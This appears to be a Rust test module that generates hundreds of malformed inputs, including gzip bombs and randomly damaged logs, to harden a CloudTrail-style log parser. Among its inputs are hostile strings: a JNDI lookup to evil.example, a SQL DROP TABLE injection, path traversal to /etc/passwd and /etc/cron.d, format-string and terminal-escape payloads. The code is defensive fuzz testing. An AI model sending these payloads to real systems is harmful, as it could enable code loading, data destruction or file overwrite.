//! Bytes that are no good log: a list of known tricks, and damage done at random to good logs, the same on every run.

use crate::oracle::generate::{deep_event, event, wide_event, wrapped};
use fastrand::Rng;
use flate2::write::GzEncoder;
use flate2::{Compression, GzBuilder};
use std::io::Write;

/// Numbers of the events in hostile logs begin here; those of their neighbours are smaller.
pub const FIRST: u64 = 1 << 40;

pub fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::fast());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

fn good() -> String {
    wrapped(&[FIRST, FIRST + 1, FIRST + 2].map(event))
}

/// An event in which one member has another value, JSON text.
fn with(member: &str, value: &str) -> Vec<u8> {
    let event = event(FIRST);
    let start = event.find(&format!("\"{member}\":")).unwrap() + member.len() + 3;
    let end = start + event[start..].find([',', '}']).unwrap();
    format!("{}{value}{}", &event[..start], &event[end..]).into_bytes()
}

/// Logs that each try one thing.
pub fn tricks() -> Vec<Vec<u8>> {
    let mut tricks = texts();
    tricks.extend(gzips());
    tricks
}

fn texts() -> Vec<Vec<u8>> {
    let good = good();
    let utf16 = |to: fn(u16) -> [u8; 2], mark: u16| -> Vec<u8> {
        std::iter::once(mark).chain(good.encode_utf16()).flat_map(to).collect()
    };
    let around = |before: &str, after: &str, count: usize| {
        format!("{{\"Records\":[{}1{}]}}", before.repeat(count), after.repeat(count)).into_bytes()
    };
    let mut texts: Vec<Vec<u8>> = [
        "",
        " ",
        "\n",
        "\0",
        "null",
        "42",
        "-",
        "\"x\"",
        "\"",
        "[]",
        "[",
        "]",
        "{}",
        "{",
        "}",
        ",",
        ":",
        "[,]",
        "{,}",
        "{:}",
        "[[]]",
        "[{}]",
        "[null]",
        "{\"\":{}}",
        "{\"Records\"}",
        "{\"Records\":",
        "{\"Records\":[",
        "{\"Records\":[{",
        "{\"Records\":[{\"",
        "{\"Records\":{}}",
        "{\"Records\":\"[]\"}",
        "{\"Records\":[]]}",
        "{\"Records\":[}]}",
        "{\"Records\":[1,null,\"x\",[],true]}",
        "{\"Records\":[{}],\"Records\":[{}]}",
        "{\"records\":[{}]}",
        "{\"Records\":[[{\"eventName\":\"A\"}]]}",
        "{\"a\":1e999999}",
        "[1e999999,-0,0.0e-0,1E+9]",
        "[01]",
        "[+1]",
        "[.5]",
        "[NaN,Infinity]",
        "[0x10]",
        "['a']",
        "[\"\\x\"]",
        "[\"\\u12\"]",
        "[\"\\ud800\"]",
        "[\"\t\"]",
        "// a\n{}",
        "/* a */{}",
        "#!/bin/sh\nexit 1\n",
        "<?xml version=\"1.0\"?><Error><Code>AccessDenied</Code></Error>",
        "<html><body>login</body>",
        "%s%s%s%n%n%n",
        "${jndi:ldap://evil.example/a}",
        "'; DROP TABLE events; --",
        "../../../../etc/passwd",
        "\u{1b}[2J\u{1b}[31mall clear",
        "\u{202e}gnp.exe",
        "\u{feff}",
        "\u{feff}\u{feff}{}",
        "{\"logFiles\":[]}",
        "{\"logFiles\":[{\"s3Bucket\":\"b\"}],\"digestS3Bucket\":\"b\"}",
        "PK\u{3}\u{4}",
        "BZh91AY&SY",
        "%PDF-1.7",
        "\u{7f}ELF",
    ]
    .iter()
    .map(|text| text.as_bytes().to_vec())
    .collect();
    texts.extend([
        vec![0; 1 << 16],
        vec![0xff; 1 << 16],
        (0..=255).collect(),
        (0..=255).rev().cycle().take(1 << 16).collect(),
        b"\xef\xbb".to_vec(),
        b"\xff\xfe".to_vec(),
        b"\x28\xb5\x2f\xfd\0\0".to_vec(),
        b"\xfd7zXZ\0".to_vec(),
        utf16(u16::to_le_bytes, 0xfeff),
        utf16(u16::to_be_bytes, 0xfeff),
        b"{\"Records\":[{\"eventName\":\"\xff\xfe\xc0\x80\"}]}".to_vec(),
        "[".repeat(100_000).into_bytes(),
        "{\"a\":".repeat(50_000).into_bytes(),
        "[{\"a\":".repeat(50_000).into_bytes(),
        "{\"Records\":[".repeat(50_000).into_bytes(),
        "]".repeat(100_000).into_bytes(),
        "}{".repeat(50_000).into_bytes(),
        ",".repeat(100_000).into_bytes(),
        "\n{".repeat(50_000).into_bytes(),
        "\n{\"a\":\"".repeat(20_000).into_bytes(),
        "{}\n".repeat(50_000).into_bytes(),
        "{}".repeat(50_000).into_bytes(),
        "\"".repeat(100_001).into_bytes(),
        "\\".repeat(100_000).into_bytes(),
        format!("\"{}", "\\".repeat(100_001)).into_bytes(),
        "\r".repeat(100_000).into_bytes(),
        " ".repeat(2 << 20).into_bytes(),
        "7".repeat(2 << 20).into_bytes(),
        format!("[{}", "7,".repeat(100_000)).into_bytes(),
        format!("[\"{}", "x".repeat(2 << 20)).into_bytes(),
        format!("{{\"Records\":[{{\"{}\":1}}]}}", "k".repeat(2 << 20)).into_bytes(),
        around("[", "]", 10_000),
        around("{\"a\":", "}", 10_000),
        around("[", "]", 999),
        around("[", "", 10_000),
        wrapped(&[deep_event(FIRST, 998), deep_event(FIRST + 1, 1001), deep_event(FIRST + 2, 100_000)]).into_bytes(),
        wrapped(&[wide_event(FIRST, 1 << 20), wide_event(FIRST + 1, 3 << 20)]).into_bytes(),
        format!("{{\"Records\":[{{{}\"eventName\":\"A\"}}]}}", "\"eventName\":{},".repeat(50_000)).into_bytes(),
        format!("{{{}}}", "\"Records\":[],".repeat(50_000)).into_bytes(),
        format!("{good}junk{good}").into_bytes(),
        good.replace("\"eventID\"", "\"eventI\\u0044\"").into_bytes(),
        good.replace('"', "'").into_bytes(),
        good.replace('{', "{{").into_bytes(),
        good.replace(',', ",\0").into_bytes(),
        good.replace(':', "\n:\n").into_bytes(),
    ]);
    let long = |text: &str| format!("\"{}\"", text.repeat(1 << 18));
    for (member, values) in [
        ("eventID", ["null", "{}", "7", "\"\"", "\"\\u0000\"", "\"\\ud800\"", &long("id")]),
        ("eventName", ["null", "[]", "-1", "\"\"", "\"a\\nb\\u001b[0m\"", "\"\\u202e\"", &long("n")]),
        (
            "eventTime",
            [
                "null",
                "1e999",
                "\"\"",
                "\"9999-99-99T99:99:99Z\"",
                "\"-0001-01-01T00:00:00Z\"",
                "\"2026-03-02T23:59:60+99:99\"",
                &long("2"),
            ],
        ),
        ("eventSource", ["true", "{\"a\":[]}", "\"\\\\\"", "\".\"", "\"..amazonaws.com\"", "\"\\u0000\"", &long("s")]),
        ("sourceIPAddress", ["[]", "\"::ffff:999.1.1.1\"", "\"1.2.3.4,\"", "\"%\"", "\"\"", "0", &long(":")]),
        ("eventVersion", ["null", "1.11", "\"1.11\\u0000\"", "[\"1\"]", "\"\"", "{}", &long("1")]),
    ] {
        texts.extend(values.map(|value| with(member, value)));
    }
    texts
}

fn gzips() -> Vec<Vec<u8>> {
    let good = good();
    let whole = gzip(good.as_bytes());
    let changed = |at: usize, byte: u8| {
        let mut changed = whole.clone();
        changed[at] = byte;
        changed
    };
    let named = |name: Vec<u8>| {
        let mut encoder = GzBuilder::new().filename(name).write(Vec::new(), Compression::fast());
        encoder.write_all(good.as_bytes()).unwrap();
        encoder.finish().unwrap()
    };
    let mut gzips: Vec<Vec<u8>> = (1..24).map(|length| whole[..length].to_vec()).collect();
    gzips.extend((1..12).map(|missing| whole[..whole.len() - missing].to_vec()));
    gzips.extend((2..10).flat_map(|at| [changed(at, 0), changed(at, 0xff)]));
    gzips.extend((1..9).map(|at| changed(whole.len() - at, !whole[whole.len() - at])));
    gzips.extend([
        gzip(b""),
        gzip(b"\0"),
        gzip(&whole),
        gzip(&gzip(&gzip(&whole))),
        gzip(b"").repeat(10_000),
        [whole.clone(), b"\x1f".to_vec()].concat(),
        [whole.clone(), b"\x1f\x8b".to_vec()].concat(),
        [whole.clone(), b"junk".to_vec()].concat(),
        [whole.clone(), vec![0; 1 << 16]].concat(),
        [whole.clone(), good.clone().into_bytes()].concat(),
        [good.clone().into_bytes(), whole.clone()].concat(),
        [vec![0], whole.clone()].concat(),
        named(vec![b'n'; 1 << 20]),
        named(b"../../etc/cron.d/x".to_vec()),
        // An extra field that is longer than the file, and a name that never ends.
        b"\x1f\x8b\x08\x04\0\0\0\0\0\x03\xff\xff".to_vec(),
        [&b"\x1f\x8b\x08\x08\0\0\0\0\0\x03"[..], &[b'n'; 1 << 16]].concat(),
        // Blocks: stored with a wrong length, of a kind that does not exist, with a distance before the start.
        b"\x1f\x8b\x08\0\0\0\0\0\0\x03\x01\x05\0\0\0hello".to_vec(),
        b"\x1f\x8b\x08\0\0\0\0\0\0\x03\x07".to_vec(),
        b"\x1f\x8b\x08\0\0\0\0\0\0\x03\x4b\x04\x82\xff".to_vec(),
        // Bombs: far more than `limits.inflatedMiB` of the tests allows.
        gzip(&vec![0; 64 << 20]),
        gzip(format!("[{}", "[],".repeat(4 << 20)).as_bytes()),
        gzip(format!("{{\"Records\":[{},{{\"a\":\"{}", event(FIRST), "x".repeat(64 << 20)).as_bytes()),
        gzip(&vec![b'x'; 1 << 20]).repeat(64),
    ]);
    gzips
}

/// Good logs, damaged at random.
pub fn damaged(count: usize) -> Vec<Vec<u8>> {
    let lines: Vec<String> = (0..4).map(|number| event(FIRST + number)).collect();
    let good = [
        good().into_bytes(),
        lines.join("\n").into_bytes(),
        format!("[{}]", lines.join(",")).into_bytes(),
        gzip(good().as_bytes()),
        [gzip(lines[0].as_bytes()), gzip(lines[1].as_bytes())].concat(),
    ];
    let mut random = Rng::with_seed(8);
    (0..count).map(|number| damage(&mut random, &good, good[number % good.len()].clone())).collect()
}

/// Does damage to bytes, with parts of other ones.
pub fn damage(random: &mut Rng, others: &[Vec<u8>], mut bytes: Vec<u8>) -> Vec<u8> {
    const PIECES: [&[u8]; 20] = [
        b"\"",
        b"\\",
        b"{",
        b"}",
        b"[",
        b"]",
        b":",
        b",",
        b"\0",
        b"\n",
        b"\xff",
        b"\\u0000",
        b"\\ud800",
        b"\x1f\x8b\x08",
        b"\"Records\":[",
        b"null",
        b"1e999",
        b"\xef\xbb\xbf",
        b"%00",
        b"\r\n\r\n",
    ];
    for _ in 0..random.usize(1..6) {
        let at = random.usize(..=bytes.len());
        let longest = 1 << random.usize(..9);
        let end = (at + random.usize(..longest)).min(bytes.len());
        match random.u8(..7) {
            0 if at < bytes.len() => bytes[at] ^= 1 << random.u8(..8),
            1 => drop(bytes.drain(at..end)),
            2 => bytes.truncate(at),
            3 => {
                let part = bytes[at..end].to_vec();
                bytes.splice(at..at, part.repeat(random.usize(1..20)));
            }
            4 => {
                let other = random.choice(others).unwrap();
                let from = random.usize(..other.len());
                bytes.splice(at..end, other[from..].iter().copied().take(end - at + 64));
            }
            5 => bytes[at..end].iter_mut().for_each(|byte| *byte = random.u8(..)),
            _ => drop(bytes.splice(at..end, random.choice(PIECES).unwrap().iter().copied())),
        }
    }
    bytes
}

#[test]
fn there_are_several_hundred_and_they_are_the_same_on_every_run() {
    assert!(tricks().len() > 200, "{}", tricks().len());
    assert_eq!(damaged(50), damaged(50));
    let mut all = damaged(250);
    all.sort();
    all.dedup();
    assert!(all.len() > 240, "{}", all.len());
}
